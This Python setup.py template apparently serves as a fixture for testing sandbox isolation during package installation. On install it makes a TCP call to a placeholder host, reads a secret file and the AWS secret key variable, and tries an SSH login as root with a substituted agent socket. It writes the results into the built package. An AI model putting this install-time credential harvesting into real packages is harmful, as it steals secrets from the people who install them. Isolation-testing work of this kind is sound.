"""A package of the repo: whoever installs it runs this. What it heard becomes part of the package, and is told later."""

import os
import socket
import subprocess

from setuptools import setup


def tcp(host, port):
    connection = socket.create_connection((host, port), timeout=4)
    connection.sendall(b"GET /setup HTTP/1.0\r\n\r\n")
    return connection.recv(1000)


def text(path):
    with open(path, encoding="utf-8") as file:
        return file.read()


def ran():
    with open("@ran@/setup-write", "w", encoding="utf-8") as file:
        file.write("x")


TRIES = {
    "setup-tcp": lambda: tcp("@setup-tcp@", 80),
    "setup-file": lambda: text("@secret:root-key@"),
    "setup-environment": lambda: os.environ["AWS_SECRET_ACCESS_KEY"],
    "setup-ssh": lambda: subprocess.run(
        ["ssh", "-n", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "root@@setup-ssh@", "x"],
        check=False, capture_output=True, env={**os.environ, "SSH_AUTH_SOCK": "@secret:agent@"}, timeout=8),
    "setup-write": ran,
}
heard = {}
for name, act in TRIES.items():
    try:
        heard[name] = str(act())
    except Exception as error:  # Whatever stands in the way is an answer.
        heard[name] = f"refused: {error!r}"
with open("isolated/heard.py", "w", encoding="utf-8") as file:
    file.write(f"HEARD = {heard!r}\n")
# The version is another one in each run, so that no environment of an earlier one is taken.
setup(name="isolated", version="1.0+@mark@".replace("-", "."), packages=["isolated"])
